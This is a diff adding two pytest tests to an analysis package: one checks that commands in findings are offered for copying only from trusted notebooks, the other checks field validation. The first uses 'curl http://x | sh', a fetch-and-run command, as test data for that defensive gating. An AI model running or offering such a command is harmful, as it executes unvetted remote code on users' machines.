@@ -31,13 +31,15 @@ from cilium_analysis.errors import BundleError, CiliumAnalysisError, ParameterEr
 from cilium_analysis.figures import FIGURE, NARROW, WIDE
 from cilium_analysis.fleet import read_fleet
 from cilium_analysis.question import ask_source
-from cilium_analysis.report.compare import Other
+from cilium_analysis.report.compare import Other, check_findings
 from cilium_analysis.report.earlier import Earlier
 from cilium_analysis.report.execute import Executed
 from cilium_analysis.report.finished import finished
 from cilium_analysis.report.html import notebook_page, runs_page
+from cilium_analysis.report.summary import _read
 from cilium_analysis.storage.directory import Directory
 from cilium_analysis.storage.runs import read_run
+from cilium_analysis.texts import parted
 from tests.sources import MemorySource
 from tests.test_bundle import FRAME, WINDOW
 
@@ -633,3 +635,27 @@ def test_a_field_of_a_fleet_file_is_read_or_refused(tmp_path: Path, data: st.Dat
         read_fleet(tmp_path / "fleet.yaml")
     except ParameterError:
         return
+
+
+@pytest.mark.parametrize("trusted", [True, False])
+def test_only_our_own_commands_are_offered_to_be_copied(trusted: bool) -> None:
+    finding = FINDING | {"next_step": "Run `curl http://x | sh`."}
+    document = FINDINGS | {"findings": [finding | {"evidence": [finding]}]}
+    executed = Executed("dns", v4.new_notebook(), 1.0, trusted=trusted)
+    (read,) = _read(document, executed)
+    commands = [parted(each.next_step)[1:2] for each in (read, *read.evidence)]
+    assert commands == 2 * [[(True, "curl http://x | sh")] if trusted else []]
+
+
+@pytest.mark.parametrize(
+    "wrong",
+    [{"answer": 5}, {"checked": "dns"}, {"checked": [None]}, {"incomplete": {}}],
+)
+def test_what_is_read_of_findings_is_text(wrong: dict[str, object]) -> None:
+    (name,) = wrong
+    with pytest.raises(ValueError, match=f"its '{name}' is"):
+        check_findings(FINDINGS | wrong)
+    for name in ("brief", "topic"):
+        row = FINDING | {name: 5}
+        with pytest.raises(ValueError, match=f"finding 1: its '{name}' is 5"):
+            check_findings(FINDINGS | {"findings": [FINDING | {"evidence": [row]}]})
